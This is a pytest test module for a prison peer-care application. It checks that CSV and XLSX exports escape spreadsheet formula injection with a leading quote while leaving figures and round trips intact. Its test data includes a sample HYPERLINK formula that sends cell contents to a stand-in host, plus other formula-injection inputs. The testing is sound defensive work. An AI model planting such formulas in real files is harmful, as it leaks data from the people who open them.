"""Formula injection: text that a spreadsheet would run as a formula (starting =, +, -, @, tab or
carriage return) gets a leading ' in every CSV and XLSX file made for people; numbers stay
numbers; the data standard's files still make the round trip unchanged; the research extract,
made for statistical software, is left as it is."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from buddies.models import PayRate, Session
from common.spreadsheet import safe_cell, safe_row, unquote_cell
from exchange.export import export_files, export_workbook
from exchange.importer import run_import
from exchange.models import ImportRun
from exchange.reading import FileSet, read_named
from governance.models import Incident, Prison, StaffMember
from governance.reference import sync_reference_codes
from monitoring.management.commands.monitoring_report import report_csv
from outcomes.extract import FileSpec, write_csv
from recipients.models import CarePlan
from tests.factories import BuddyFactory, CarePlanFactory, PrisonFactory, RecipientFactory

HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Open")'
# Each hand-written text beside what a file made for people must hold.
TEXTS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1", "'+1"),
    ("-2 notes", "'-2 notes"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    ("\r=1", "'\r=1"),
    ("Jo", "Jo"),
]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# The function itself ---------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "written"), TEXTS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text, written):
    assert safe_cell(text) == written
    assert unquote_cell(written) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("", ""),
        ("O'Neill", "O'Neill"),
        ("'tis so", "'tis so"),  # a quote before ordinary text: no formula, left alone
        ("a=b", "a=b"),  # only the first character counts
        ("'=1+1", "''=1+1"),  # one more quote, so that reading it back gives the quote too
        ("''-2", "'''-2"),
    ],
)
def test_other_text_is_left_alone_and_quoted_text_reads_back_exactly(text, written):
    assert safe_cell(text) == written
    assert unquote_cell(written) == text


@pytest.mark.parametrize(
    "value",
    [-3, 0, Decimal("-2.50"), -1.5, dt.date(2026, 1, 31), None, True],
)
def test_numbers_dates_and_other_values_are_unchanged(value):
    assert safe_cell(value) is value


def test_a_row_quotes_only_its_text():
    assert safe_row(["-2 notes", -2, Decimal("-2.50"), "Jo"]) == [
        "'-2 notes",
        -2,
        Decimal("-2.50"),
        "Jo",
    ]


# The national data standard's files: export, and the round trip ------------------------------

# Not "\r=1": XML, and so XLSX, keeps a carriage return as a line feed; and no text in PeerCare
# starts with one (forms, the API and the importer trim it).
ROUND_TRIP_TEXTS = [
    *(text for text, _written in TEXTS if not text.startswith("\r")),
    "=1+1",
    "-not a formula",
    "@home",
    "'=already quoted",
]


def free_text_records(prison: Prison) -> None:
    """Incidents whose summaries are the hand-written texts (INC-1, INC-2, ...), a care plan whose
    notes are =1+1, a member of staff named like a phone number, and a buddy paid 1.50."""
    for number, text in enumerate(ROUND_TRIP_TEXTS, start=1):
        Incident.objects.create(
            prison=prison,
            reference=f"INC-{number}",
            occurred_on=dt.date(2026, 1, 14),
            category_id="other",
            severity="low",
            status="open",
            summary=text,
        )
    person = RecipientFactory(prison=prison, prison_number="B2345CD", given_name="Rae")
    CarePlanFactory(recipient=person, notes="=1+1").tasks.set(["meals_collect"])
    StaffMember.objects.create(
        prison=prison,
        staff_ref="S1",
        name="+44 20 7946 0000",
        role="Officer",
        organisation="prison",
    )
    buddy = BuddyFactory(prison=prison, prison_number="A1234BC", family_name="-Smith")
    PayRate.objects.create(
        buddy=buddy,
        pay_scheme="standard",
        rate_per_session=Decimal("1.50"),
        effective_from=dt.date(2026, 1, 5),
    )


def column(data: bytes, name: str) -> list[str]:
    rows = csv_rows(data.decode())
    position = rows[0].index(name)
    return [row[position] for row in rows[1:]]


def summaries(data: bytes) -> dict[str, str]:
    """{reference: summary} from incidents.csv."""
    return dict(zip(column(data, "reference"), column(data, "summary"), strict=True))


def test_the_standards_csv_files_quote_text_and_leave_figures(home_prison):
    sync_reference_codes()
    Incident.objects.create(
        prison=home_prison,
        reference="INC-CR",
        occurred_on=dt.date(2026, 1, 14),
        category_id="other",
        severity="low",
        status="open",
        summary="\r=1",
    )
    free_text_records(home_prison)

    files = export_files([home_prison])

    cells = summaries(files["incidents.csv"])
    assert [cells[f"INC-{n}"] for n in range(1, 7)] == [
        written for text, written in TEXTS if not text.startswith("\r")
    ]
    assert cells["INC-CR"] == "'\r=1"
    assert [cells[f"INC-{n}"] for n in range(7, 11)] == [
        "'=1+1",
        "'-not a formula",
        "'@home",
        "''=already quoted",
    ]
    assert column(files["care_plans.csv"], "notes") == ["'=1+1"]
    assert column(files["staff.csv"], "name") == ["'+44 20 7946 0000"]
    assert column(files["buddies.csv"], "family_name") == ["'-Smith"]
    assert column(files["buddies.csv"], "pay_rate_per_session") == ["1.50"]
    assert column(files["incidents.csv"], "occurred_on") == ["2026-01-14"] * 11


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole(home_prison):
    """A bare carriage return ends a row for every CSV reader: the rest of the cell would be a row
    of its own, starting with a formula. The cell is quoted instead."""
    sync_reference_codes()
    Incident.objects.create(
        prison=home_prison,
        reference="INC-1",
        occurred_on=dt.date(2026, 1, 14),
        category_id="other",
        severity="low",
        status="open",
        summary="first line\r=SUM(A1:A9)",
    )

    data = export_files([home_prison])["incidents.csv"]

    assert data.decode().split("\n")[1:] == [
        'HMX,INC-1,2026-01-14,other,low,,,open,,,"first line\r=SUM(A1:A9)",',
        "",
    ]
    assert summaries(data) == {"INC-1": "first line\r=SUM(A1:A9)"}


def test_the_standards_workbook_holds_quoted_text_never_a_formula(home_prison):
    sync_reference_codes()
    free_text_records(home_prison)

    book = load_workbook(io.BytesIO(export_workbook([home_prison])))

    sheet = book["incidents"]
    header = [cell.value for cell in sheet[1]]
    reference, summary = header.index("reference"), header.index("summary")
    cells = {row[reference].value: row[summary] for row in sheet.iter_rows(min_row=2)}
    assert [cells[f"INC-{n}"].value for n in range(1, 7)] == [
        written for text, written in TEXTS if not text.startswith("\r")
    ]
    assert cells["INC-7"].value == "'=1+1"
    assert {cell.data_type for cell in cells.values()} == {"s"}  # text, not "f" for formula
    assert [row[0].value for row in book["care_plans"].iter_rows(min_row=2)] == ["HMX"]
    notes = [cell.value for cell in book["care_plans"][1]].index("notes")
    assert book["care_plans"].cell(row=2, column=notes + 1).value == "'=1+1"


def test_reading_takes_off_the_quote_an_export_put_on():
    found = FileSet()
    text = (
        "prison_code,reference,occurred_on,category,severity,status,summary\n"
        "HMX,INC-1,2026-01-14,other,low,open,'=1+1\n"
        "HMX,INC-2,2026-01-14,other,low,open,'-not a formula\n"
        "HMX,INC-3,2026-01-14,other,low,open,''@home\n"
        "HMX,INC-4,2026-01-14,other,low,open,'tis so\n"
    )
    read_named("incidents.csv", text.encode(), found)
    assert [row.cells["summary"] for row in found.tables["incidents"].rows] == [
        "=1+1",
        "-not a formula",
        "'@home",
        "'tis so",
    ]


def saved_texts() -> dict:
    return {
        "summaries": dict(Incident.objects.values_list("reference", "summary")),
        "notes": list(CarePlan.objects.values_list("notes", flat=True)),
        "staff": list(StaffMember.objects.values_list("name", flat=True)),
    }


# These empty the database half-way (flush), which needs a real transaction around the test.
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_free_text_like_a_formula_makes_the_round_trip_unchanged(kind):
    sync_reference_codes()
    prison = PrisonFactory(code="HMX", name="HMP Home")
    free_text_records(prison)
    before = saved_texts()
    files = export_files([prison])
    workbook = export_workbook([prison])
    call_command("flush", interactive=False)
    sync_reference_codes()

    found = FileSet()
    if kind == "csv":
        for name, data in files.items():
            read_named(name, data, found)
    else:
        read_named("peercare.xlsx", workbook, found)
    report = run_import(found)

    assert report.errors == [], report.errors
    assert saved_texts() == before
    assert before["summaries"] == {
        f"INC-{number}": text for number, text in enumerate(ROUND_TRIP_TEXTS, start=1)
    }
    assert export_files(Prison.objects.all()) == files


# The other files made for people ---------------------------------------------------------------


def test_the_import_problems_csv_quotes_file_names_and_messages(client, lead, home_prison):
    run = ImportRun.objects.create(
        prison=home_prison,
        by=lead,
        source="browser",
        result="refused",
        errors=[
            f"{HYPERLINK}.csv:1: file: not a file of the data standard",
            "buddies.csv:2: given_name: +1",
            "buddies.csv:3: family_name: -2 notes",
            "@SUM(A1:A9).csv:1: file: not a file of the data standard",
            "buddies.csv:4: rejection_reason: \tx",
            "buddies.csv:5: status: 'Jo' is not one of: applicant, vetting",
        ],
    )
    client.force_login(lead)

    response = client.get(reverse("import-errors-csv", args=["HMX", run.pk]))

    assert csv_rows(response.content.decode()) == [
        ["file", "line", "column", "message"],
        ["'" + HYPERLINK + ".csv", "1", "file", "not a file of the data standard"],
        ["buddies.csv", "2", "given_name", "'+1"],
        ["buddies.csv", "3", "family_name", "'-2 notes"],
        ["'@SUM(A1:A9).csv", "1", "file", "not a file of the data standard"],
        ["buddies.csv", "4", "rejection_reason", "'\tx"],
        ["buddies.csv", "5", "status", "'Jo' is not one of: applicant, vetting"],
    ]


def test_the_comparison_csv_quotes_region_names_and_leaves_figures(client, admin_user):
    for number, (text, _written) in enumerate(TEXTS):
        PrisonFactory(code=f"P{'ABCDEFG'[number]}", region=text)
    client.force_login(admin_user)
    url = reverse("monitoring-comparison")
    period = {"from": "2026-01-12", "to": "2026-01-25"}

    by_region = csv_rows(
        client.get(url, {**period, "by": "region", "format": "csv"}).content.decode()
    )
    per_prison = csv_rows(
        client.get(url, {**period, "by": "prison", "format": "csv"}).content.decode()
    )

    # Groups sorted by label: tab, carriage return, +, -, =, @, J.
    assert [row[:3] for row in by_region[1:]] == [
        ["'\tx", "1", "0"],
        ["'\r=1", "1", "0"],
        ["'+1", "1", "0"],
        ["'-2 notes", "1", "0"],
        ["'" + HYPERLINK, "1", "0"],
        ["'@SUM(A1:A9)", "1", "0"],
        ["Jo", "1", "0"],
    ]
    assert by_region[0][:3] == ["region", "prisons", "buddies_active"]
    assert [row[:2] for row in per_prison[1:]] == [
        ["PE", "'\tx"],
        ["PF", "'\r=1"],
        ["PB", "'+1"],
        ["PC", "'-2 notes"],
        ["PA", "'" + HYPERLINK],
        ["PD", "'@SUM(A1:A9)"],
        ["PG", "Jo"],
    ]


def test_the_monitoring_report_csv_quotes_codes_and_never_figures():
    report = {
        "indicators": {
            "sessions_delivered": 12,
            "hours_change": "-1.50",
            "missed_by_reason": {text: number for number, (text, _w) in enumerate(TEXTS)},
            "@indicator": None,
        }
    }

    rows = csv_rows(report_csv(report))

    assert rows == [
        ["indicator", "code", "value"],
        ["sessions_delivered", "", "12"],
        ["hours_change", "", "-1.50"],
        ["missed_by_reason", "'" + HYPERLINK, "0"],
        ["missed_by_reason", "'+1", "1"],
        ["missed_by_reason", "'-2 notes", "2"],
        ["missed_by_reason", "'@SUM(A1:A9)", "3"],
        ["missed_by_reason", "'\tx", "4"],
        ["missed_by_reason", "'\r=1", "5"],
        ["missed_by_reason", "Jo", "6"],
        ["'@indicator", "", ""],
    ]


def test_the_cost_report_csv_quotes_the_templates_text_and_leaves_amounts(home_prison, tmp_path):
    # The template reader trims spaces, tabs and carriage returns, so those texts cannot arrive.
    roles = [HYPERLINK, "+1", "-2 notes", "@SUM(A1:A9)", "Jo"]
    template = {
        "prison_code": "HMX",
        "financial_year": "2022-23",
        "buddies_in_year": 12,
        "recipients_in_year": 20,
        "buddy_pay": [
            {
                "scheme": "enhanced",
                "rate_per_session": "1.50",
                "sessions_per_week": 8,
                "weeks": 52,
                "buddies": 12,
            }
        ],
        "staff": [{"role": role, "band": 6, "hours": None} for role in roles],
        "external_organisations": [],
        "non_labour": [],
        "training": [],
        "incentives": [],
        "recipients_by_scheme": {"enhanced": 20},
        "prison_estimate_total": None,
    }
    path = tmp_path / "cost-template-HMX-2022-23.json"
    path.write_text(json.dumps(template))
    call_command("import_cost_template", str(path))
    out = io.StringIO()

    call_command(
        "cost_report", "--prison", "HMX", "--year", "2022-23", "--format", "csv", stdout=out
    )

    rows = dict(row for row in csv_rows(out.getvalue())[1:] if row[0] != "incomplete")
    reasons = [row[1] for row in csv_rows(out.getvalue()) if row[0] == "incomplete"]
    assert reasons == [
        "'" + HYPERLINK + ": hours not recorded; not costed",
        "'+1: hours not recorded; not costed",
        "'-2 notes: hours not recorded; not costed",
        "'@SUM(A1:A9): hours not recorded; not costed",
        "Jo: hours not recorded; not costed",
    ]
    # 1.50 x 8 sessions x 52 weeks x 12 buddies = 7,488.00, over 12 buddies and 20 people.
    assert (rows["total"], rows["per_buddy"], rows["per_recipient"]) == (
        "7488.00",
        "624.00",
        "374.40",
    )
    assert (rows["prison_code"], rows["buddies"]) == ("HMX", "12")


def test_the_pay_csv_quotes_buddies_names_and_leaves_pay(client, lead, home_prison):
    person = RecipientFactory(prison=home_prison)
    for number, (text, _written) in enumerate(TEXTS):
        buddy = BuddyFactory(
            prison=home_prison, prison_number=f"A{number}000BC", given_name=text, family_name="Ng"
        )
        PayRate.objects.create(
            buddy=buddy,
            pay_scheme="standard",
            rate_per_session=Decimal("1.50"),
            effective_from=dt.date(2026, 1, 1),
        )
        Session.objects.create(
            prison=home_prison,
            buddy=buddy,
            recipient=person,
            date=dt.date(2026, 3, 2),
            period="am",
            minutes=30,
            paid=True,
        )
    client.force_login(lead)

    response = client.get(reverse("pay-sheet-csv", args=["HMX"]) + "?month=2026-03")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    by_number = {row["buddy_prison_number"]: row for row in rows[:-1]}
    assert [by_number[f"A{n}000BC"]["given_name"] for n in range(7)] == [
        written for _text, written in TEXTS
    ]
    assert {row["family_name"] for row in rows[:-1]} == {"Ng"}
    assert {row["pay_due"] for row in rows[:-1]} == {"1.50"}
    assert rows[-1]["pay_due"] == "10.50"  # 7 sessions at 1.50


def test_the_research_extract_writes_values_as_they_are(tmp_path):
    """Statistical software reads a quote as part of the value, so the extract is not quoted."""
    spec = FileSpec(
        "scores.csv",
        ("subscale", "score"),
        lambda extract: [{"subscale": "-2 notes", "score": Decimal("-0.50")}],
    )
    path = tmp_path / "scores.csv"

    assert write_csv(path, spec, extract=None) == 1

    assert path.read_text() == "subscale,score\n-2 notes,-0.50\n"
